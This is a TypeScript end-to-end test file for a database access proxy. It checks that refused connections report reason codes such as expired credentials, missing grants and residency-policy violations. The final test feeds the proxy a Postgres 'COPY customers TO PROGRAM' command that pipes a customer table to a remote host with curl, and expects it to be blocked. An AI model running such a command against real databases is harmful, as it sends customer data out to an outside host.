import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { signingKeyIn } from '@inland/auth';
import { mintToken } from '@inland/identity';
import { Clients } from './world/clients.ts';
import { freePorts } from './world/free-ports.ts';
import { applyYaml, resourceOf } from './world/resources.ts';
import { sessionWhere } from './world/sessions.ts';
import { startWorld, type World } from './world/world.ts';

let world: World;
let alice: Clients;
let olga: Clients;

beforeAll(async () => {
  world = await startWorld();
  [alice, olga] = [new Clients(world, 'alice'), new Clients(world, 'olga')];
  await addTargets();
}, 180_000);
afterAll(() => world?.stop(), 60_000);

/** Targets that cannot be reached for one reason each, at the demo's database. */
async function addTargets(): Promise<void> {
  const orders = await resourceOf(olga, 'Target', 'orders-eu');
  const [closedPort = 0] = await freePorts(1);
  await mkdir(join(world.secretsFolder, 'e2e'), { recursive: true });
  await writeFile(join(world.secretsFolder, 'e2e/wrong'), 'not-the-password');
  const target = (name: string, change: object): object => ({
    ...orders,
    metadata: { name },
    spec: { ...(orders['spec'] as object), ...change },
  });
  const foreignCa = orders['spec'] as { tls: { ca: string } };
  await applyYaml(olga, world.folder, [
    target('orders-moon', { region: 'moon:tranquility-1' }),
    target('orders-down', { address: `127.0.0.1:${closedPort}` }),
    target('orders-locked', { logins: [{ name: 'app', secret: 'e2e/wrong' }] }),
    target('orders-empty', { logins: [{ name: 'app', secret: 'e2e/absent' }] }),
    target('orders-other', { tls: { ...foreignCa.tls, serverName: 'somebody-else.example' } }),
    {
      apiVersion: 'inland/v1',
      kind: 'AccessGrant',
      metadata: { name: 'e2e' },
      spec: {
        subjects: { groups: ['developers'] },
        targets: { names: ['orders-moon', 'orders-down', 'orders-locked', 'orders-empty', 'orders-other'] },
        logins: ['app'],
        operations: ['connect', 'postgres.*'],
      },
    },
  ]);
}

async function expiredToken(): Promise<string> {
  const { privateKey, keyId } = signingKeyIn(world.authHome);
  const hourAgo = Date.now() - 3_600_000;
  const { token } = await mintToken({
    privateKey,
    keyId,
    subject: 'alice',
    audience: 'database',
    ttlSeconds: 60,
    nowMillis: hourAgo,
  });
  return token;
}

describe('an access to a database that is refused', () => {
  it.each([
    ['residency_target_outside', 'app@orders-us', 'ResidencyPolicy/personal-data-stays-in-eea'],
    ['region_unknown', 'app@orders-moon', ''],
    ['target_unknown', 'app@nowhere', ''],
    ['target_protocol', 'deploy@build-eu', ''],
    ['target_name_malformed', 'app', ''],
    ['grant_login', 'root@orders-eu', ''],
    ['target_secret_missing', 'app@orders-empty', ''],
    ['target_unreachable', 'app@orders-down', ''],
    ['target_credential_refused', 'app@orders-locked', ''],
    ['target_identity_changed', 'app@orders-other', ''],
  ])('is told %s', async (reason, user, rule) => {
    const { status, stdout, stderr } = await alice.psql(user, ['-c', 'select 1']);
    expect({ status, stdout }).toEqual({ status: 2, stdout: '' });
    expect(stderr).toContain('FATAL:  Inland refused this: ');
    expect(stderr).toMatch(new RegExp(`DETAIL:  Reason ${reason}[,.]`));
    if (rule !== '') expect(stderr).toContain(rule);
    const [, id = ''] = /Quote request ([0-9a-f-]{36})/.exec(stderr) ?? [];
    const session = await sessionWhere(olga, (one) => one.id === id && one.endedAt !== null);
    expect([session.reasonCode, session.endReason]).toContain(reason);
  });

  it('is told grant_missing when no grant of theirs covers the target', async () => {
    const { status, stderr } = await olga.psql('app@orders-eu', ['-c', 'select 1']);
    expect(status).toBe(2);
    expect(stderr).toContain('grant_missing');
  });

  it.each([
    ['credential_expired', () => expiredToken()],
    ['credential_invalid', async () => `${(await alice.token()).slice(0, -4)}AAAA`],
    ['credential_invalid', async () => 'a-password-of-old'],
    ['credential_other_target', () => alice.token('orders-us')],
  ])('is told %s', async (reason, token) => {
    const { status, stderr } = await alice.psql('app@orders-eu', ['-c', 'select 1'], { token: await token() });
    expect(status).toBe(2);
    expect(stderr).toContain(reason);
  });

  it('is told that a command carries data away, and may go on', async () => {
    const input = `COPY customers TO PROGRAM 'curl -T - https://example.com';\nSELECT 'still here';\n`;
    const { status, stdout, stderr } = await alice.psql('app@orders-eu', ['-At', '-v', 'ON_ERROR_STOP=0'], { input });
    expect(status).toBe(0);
    expect(stdout).toBe('still here\n');
    expect(stderr).toContain('residency_forbidden_operation');
  });
});
